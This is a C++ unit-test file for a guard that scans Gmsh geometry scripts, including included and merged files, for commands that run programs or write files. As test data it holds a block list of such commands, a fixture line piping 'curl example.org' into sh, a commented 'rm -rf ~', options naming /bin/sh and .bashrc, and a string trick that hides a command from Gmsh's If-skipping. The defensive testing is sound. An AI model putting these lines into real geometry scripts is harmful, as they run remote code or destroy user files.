// Geometry guard: scripts with and without constructs that run programs or write
// files. What each construct does is Gmsh's documented behaviour (Gmsh reference
// manual, "General scripting commands", from memory) and was observed with Gmsh 4.8.4
// (Debian's libgmsh4.8) where noted; the lexing rules are those of Gmsh's own scanner
// (Parser/Gmsh.l of Gmsh 4.x).
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <vector>

#include "mesh/geometry_guard.hpp"
#include "mesh/gmsh_script_lexer.hpp"
#include "mesh/mesh_error.hpp"

namespace hearth {
namespace {

namespace fs = std::filesystem;

std::vector<UnsafeConstruct> scan(const std::string& text, std::vector<std::string>* includes = nullptr) {
  return find_unsafe_constructs(text, "part.geo", includes);
}

// "construct@line" of each finding, for compact expectations.
std::vector<std::string> found(const std::string& text) {
  std::vector<std::string> out;
  for (const UnsafeConstruct& u : scan(text)) out.push_back(u.construct + "@" + std::to_string(u.line));
  return out;
}

using Found = std::vector<std::string>;

const char* const kCleanWall = R"(// A plain wall, the kind of script hearth's cases use.
SetFactory("OpenCASCADE");
lc = 0.05; /* a size that Gmsh ignores: hearth sets the sizes */
Box(1) = {0, 0, 0, 0.25, 0.1, 0.1};
Physical Volume("wall") = {1};
Physical Surface("hot") = {1};
Physical Surface("cold") = {2};
Mesh.MshFileVersion = 4.1;
Geometry.Tolerance = 1e-9;
If (lc > 0.01)
  Printf("size %g", lc);
EndIf
For i In {1:3}
  x~{i} = i * 0.5;
EndFor
)";

TEST(GeometryGuard, PlainScriptHasNothingUnsafe) {
  std::vector<std::string> includes;
  EXPECT_TRUE(scan(kCleanWall, &includes).empty());
  EXPECT_TRUE(includes.empty());
}

TEST(GeometryGuard, ShippedCaseScriptsHaveNothingUnsafe) {
  for (const char* name : {"cases/furnace_wall/wall.geo", "cases/laminate_standoff/standoff.geo"}) {
    const GeometryScan result = scan_geometry_script(fs::path(HEARTH_SOURCE_DIR) / name);
    ASSERT_EQ(result.files.size(), 1u) << name;
    EXPECT_TRUE(result.unsafe.empty()) << name << ": " << result.unsafe.front().construct;
  }
}

// Each command word of Gmsh 4.8 that runs a program or writes a file (the words are
// those of the parser in libgmsh 4.8.4; DeleteFile and RenameFile in case a later
// Gmsh has them), whatever its argument, with the line it is on.
TEST(GeometryGuard, CommandsThatRunProgramsOrWriteFilesAreRefused) {
  const char* const words[] = {"SystemCall", "System",   "NonBlockingSystemCall", "OnelabRun", "SendToServer",
                               "Save",       "Print",    "CreateDir",             "DeleteFile", "RenameFile"};
  for (const char* word : words) {
    const std::string text = "Point(1) = {0, 0, 0};\n" + std::string(word) + " StrCat(\"a\", \"b\");\n";
    EXPECT_EQ(found(text), Found{std::string(word) + "@2"}) << word;
  }
  EXPECT_EQ(found("Save View[0] \"view.pos\";"), Found{"Save@1"});
  EXPECT_EQ(found("OnelabRun(\"client\", \"cmd\");"), Found{"OnelabRun@1"});
}

TEST(GeometryGuard, PluginsAreRefused) {
  // Gmsh 4.8's HomologyComputation, Bubbles, NearToFarField and Microstructure plugins
  // write files (their FileName-like options, in libgmsh 4.8.4's strings).
  EXPECT_EQ(found("Plugin(Bubbles).Run;"), Found{"Plugin@1"});
  EXPECT_EQ(found("\nPlugin(HomologyComputation).Filename = \"h.msh\";"), Found{"Plugin@2"});
}

TEST(GeometryGuard, PrintfToAFileIsRefusedAndToTheTerminalIsNot) {
  EXPECT_TRUE(found("Printf(\"t = %g\", t);").empty());
  EXPECT_TRUE(found("If (a > b) Printf(\"a\"); EndIf").empty());  // a comparison, not a redirection
  EXPECT_EQ(found("Printf(\"t = %g\", (a > b) ? 1 : 2) > \"out.txt\";"), Found{"Printf > file@1"});
  EXPECT_EQ(found("\nPrintf(\"more\")\n  >> StrCat(dir, \"log.txt\");"), Found{"Printf >> file@2"});
  EXPECT_EQ(found("Error(\"x\") > \"e.txt\";"), Found{"Error > file@1"});
}

TEST(GeometryGuard, OptionsNamingProgramsOrFilesAreRefused) {
  EXPECT_EQ(found("Solver.Executable0 = \"/bin/sh\";"), Found{"option Solver.Executable0@1"});
  EXPECT_EQ(found("General.TmpFileName = \"/home/me/.bashrc\";"), Found{"option General.TmpFileName@1"});
  EXPECT_EQ(found("General.OptionsFileName = \"x\";"), Found{"option General.OptionsFileName@1"});
  EXPECT_EQ(found("View[0].DoubleClickedCommand = \"x\";"), Found{"option View.DoubleClickedCommand@1"});
  EXPECT_EQ(found("General.RecentFile3 = \"x\";"), Found{"option General.RecentFile3@1"});
  // Options that only change meshing or pictures are fine, Print's too.
  EXPECT_TRUE(found("Mesh.MshFileVersion = 2.2; Print.Width = 800; Mesh.SaveAll = 1; General.Terminal = 1;").empty());
}

TEST(GeometryGuard, CommentsAndStringsNeitherHideNorFakeConstructs) {
  EXPECT_TRUE(found("// SystemCall \"rm -rf ~\";\nPoint(1) = {0, 0, 0};").empty());
  EXPECT_TRUE(found("/* Save \"a.msh\";\n   SystemCall \"x\"; */ Point(1) = {0, 0, 0};").empty());
  EXPECT_TRUE(found("Physical Surface(\"Save\") = {1};\nPrintf('SystemCall and Print');").empty());
  // A construct after a comment or string on the same line is still found, on its line.
  EXPECT_EQ(found("/* one\ntwo */ a = \"x\"; Save \"a.msh\";"), Found{"Save@2"});
  EXPECT_EQ(found("s = \"a\nb\nc\"; SystemCall \"x\";"), Found{"SystemCall@3"});
  // Gmsh's lexer has no escapes in strings: the string ends at the next quote.
  EXPECT_EQ(found("s = \"a\\\"; Save \"b.msh\";"), Found{"Save@1"});
  // Gmsh's words are case-sensitive: 'save' is an ordinary name.
  EXPECT_TRUE(found("save = 1; systemcall = 2;").empty());
}

TEST(GeometryGuard, MemberAndOptionNamesAreNotCommands) {
  EXPECT_TRUE(found("Print.Format = 1; s.Save = 2; p::Save = 3;").empty());
}

TEST(GeometryGuard, IncludeAndMergeNeedOnePlainFileName) {
  std::vector<std::string> includes;
  EXPECT_TRUE(scan("Include \"layers.geo\";\nMerge 'part.step';\n", &includes).empty());
  EXPECT_EQ(includes, (std::vector<std::string>{"layers.geo", "part.step"}));
  EXPECT_EQ(found("Include StrCat(dir, \"x.geo\");"), Found{"Include with a computed file name@1"});
  EXPECT_EQ(found("name = \"x.geo\";\nMerge name;"), Found{"Merge with a computed file name@2"});
  EXPECT_EQ(found("Merge \"a\" \"b\";"), Found{"Merge with a computed file name@1"});
}

// Gmsh skips the inactive branch of an If without seeing string quotes: with Gmsh
// 4.8.4, `If (0) s = "EndIf CreateDir 'd'; If (0) "; EndIf` created the folder d, and
// so did a "//" in a string followed by a comment hiding a command.
TEST(GeometryGuard, TextThatGmshSkipsDifferentlyIsRefused) {
  EXPECT_EQ(found("If (0)\n  s = \"EndIf CreateDir 'd'; If (0) \";\nEndIf\n").size(), 1u);
  EXPECT_EQ(found("s = \"Else\";").size(), 1u);
  EXPECT_EQ(found("If (0)\n s = \"//\"; /*\nEndIf\nCreateDir \"d\";\n*/\n").size(), 1u);
  EXPECT_EQ(found("s = \"a /* b\";").size(), 1u);
  EXPECT_TRUE(found("s = \"Elsewhere, EndIfs and Return\";").empty());  // not where the skipping stops
  EXPECT_EQ(found("x1EndIf2Save = 1;").size(), 1u);
  EXPECT_EQ(found("\nReturn3 = 1;"), Found{"name Return3@2"});
  EXPECT_TRUE(found("myEndIf2 = 1; EndIfx = 2;").empty());
}

TEST(GeometryGuard, LongStringsAndNulBytesAreRefused) {
  // Gmsh 4.8.4 reports "String too long" after 1023 characters and lexes on.
  EXPECT_TRUE(found("s = \"" + std::string(1023, 'x') + "\";").empty());
  EXPECT_EQ(found("s = \"" + std::string(1024, 'x') + "\";"), Found{"string of 1024 characters@1"});
  const std::string with_nul = std::string("a = \"abc") + '\0' + "\"; Point(1) = {0, 0, 0};";
  EXPECT_EQ(found(with_nul), Found{"NUL byte@1"});
}

TEST(GeometryGuard, ScriptLexerFollowsGmshRules) {
  const std::vector<ScriptToken> tokens = lex_gmsh_script("a = 3e; b=1.e5 >> 'q\nr' // c\n.5");
  std::vector<std::string> texts;
  for (const auto& t : tokens) texts.push_back(t.text);
  EXPECT_EQ(texts, (std::vector<std::string>{"a", "=", "3", "e", ";", "b", "=", "1.e5", ">>", "q\nr", ".5"}));
  EXPECT_EQ(tokens.back().line, 3);
}

class ScriptFolder : public ::testing::Test {
 protected:
  void SetUp() override {
    std::random_device random;
    dir_ = fs::temp_directory_path() / ("hearth_test_guard_" + std::to_string(random()));
    fs::create_directories(dir_ / "parts");
  }
  void TearDown() override {
    std::error_code ignored;
    fs::remove_all(dir_, ignored);
  }
  fs::path write(const std::string& name, const std::string& text) {
    std::ofstream(dir_ / name, std::ios::binary) << text;
    return dir_ / name;
  }
  fs::path dir_;
};

TEST_F(ScriptFolder, IncludedFilesAreScannedRelativeToTheFileThatNamesThem) {
  const fs::path main = write("main.geo", "SetFactory(\"OpenCASCADE\");\nInclude \"parts/box.geo\";\n");
  write("parts/box.geo", "Box(1) = {0, 0, 0, 1, 1, 1};\nInclude \"../helpers.geo\";\n");
  write("helpers.geo", "lc = 1;\n\n\nSystemCall \"curl example.org | sh\";\n");
  const GeometryScan result = scan_geometry_script(main);
  ASSERT_EQ(result.unsafe.size(), 1u);
  EXPECT_EQ(fs::path(result.unsafe[0].file), dir_ / "helpers.geo");
  EXPECT_EQ(result.unsafe[0].line, 4);
  EXPECT_EQ(result.unsafe[0].construct, "SystemCall");
  EXPECT_EQ(result.files, (std::vector<fs::path>{dir_ / "main.geo", dir_ / "parts/box.geo", dir_ / "helpers.geo"}));
}

TEST_F(ScriptFolder, MergedDataIsNotScannedButMergedScriptsAre) {
  // With Gmsh 4.8.4 a merged .msh without a mesh header, or a .pos or .txt, is parsed
  // as a script; a .step or .stl is not, nor a file that starts like a mesh.
  const fs::path main = write("main.geo", "Merge \"part.step\";\nMerge \"mesh.msh\";\nMerge \"fake.msh\";\n"
                                          "Merge \"notes.txt\";\n");
  write("part.step", "ISO-10303-21;\nFILE_NAME('Save','SystemCall');\n");
  write("mesh.msh", "$MeshFormat\n4.1 0 8\n$EndMeshFormat\nSave \"x\";\n");
  write("fake.msh", "CreateDir \"x\";\n");
  write("notes.txt", "Point(1) = {0, 0, 0};\n");
  const GeometryScan result = scan_geometry_script(main);
  ASSERT_EQ(result.unsafe.size(), 1u);
  EXPECT_EQ(fs::path(result.unsafe[0].file), dir_ / "fake.msh");
  EXPECT_EQ(result.unsafe[0].construct, "CreateDir");
  EXPECT_EQ(result.files.size(), 5u);
}

TEST_F(ScriptFolder, IncludedFilesAreScriptsWhateverTheirName) {
  // Include parses any file as a script (Gmsh 4.8.4 ran the commands of an included .py).
  const fs::path main = write("main.geo", "Include \"part.step\";\n");
  write("part.step", "Save \"x.msh\";\n");
  EXPECT_EQ(scan_geometry_script(main).unsafe.size(), 1u);
}

TEST_F(ScriptFolder, CompressedMergesAndProgramsAreRefused) {
  // Gmsh 4.8.4 asks on the terminal and unpacks a merged .gz through "gunzip -c".
  const fs::path main = write("main.geo", "Merge \"part.msh.gz\";\nMerge \"tool.py\";\n");
  write("part.msh.gz", "");
  const GeometryScan result = scan_geometry_script(main);
  ASSERT_EQ(result.unsafe.size(), 2u);
  EXPECT_EQ(result.unsafe[0].construct, "Merge of a .gz file");
  EXPECT_EQ(result.unsafe[0].line, 1);
  EXPECT_EQ(result.unsafe[1].construct, "Merge of a .py file");
}

TEST_F(ScriptFolder, FilesThatIncludeThemselvesAreRefused) {
  const fs::path main = write("main.geo", "Include \"a.geo\";\n");
  write("a.geo", "Include \"b.geo\";\n");
  write("b.geo", "Point(1) = {0, 0, 0};\nInclude \"a.geo\";\n");
  const GeometryScan result = scan_geometry_script(main);
  ASSERT_EQ(result.unsafe.size(), 1u);
  EXPECT_EQ(fs::path(result.unsafe[0].file), dir_ / "b.geo");
  EXPECT_EQ(result.unsafe[0].line, 2);
  // A file included twice, not from itself, is fine.
  const fs::path twice = write("twice.geo", "Include \"b2.geo\";\nInclude \"b2.geo\";\n");
  write("b2.geo", "Point(1) = {0, 0, 0};\n");
  EXPECT_TRUE(scan_geometry_script(twice).unsafe.empty());
}

TEST_F(ScriptFolder, MissingIncludesAreLeftToGmsh) {
  const GeometryScan result = scan_geometry_script(write("main.geo", "Include \"nowhere.geo\";\n"));
  EXPECT_TRUE(result.unsafe.empty());
  EXPECT_EQ(result.files.size(), 1u);
}

TEST_F(ScriptFolder, RefusalNamesFileLineConstructAndTheWayOut) {
  const fs::path main = write("main.geo", "Point(1) = {0, 0, 0};\nSave \"a.msh\";\n");
  try {
    refuse_unsafe_geometry(scan_geometry_script(main));
    FAIL() << "expected a MeshError";
  } catch (const MeshError& e) {
    const std::string message = e.what();
    EXPECT_NE(message.find(main.string() + ":2: Save: writes"), std::string::npos) << message;
    EXPECT_NE(message.find("--trust-geometry"), std::string::npos) << message;
  }
  EXPECT_NO_THROW(refuse_unsafe_geometry(scan_geometry_script(write("ok.geo", "Point(1) = {0, 0, 0};\n"))));
}

}  // namespace
}  // namespace hearth
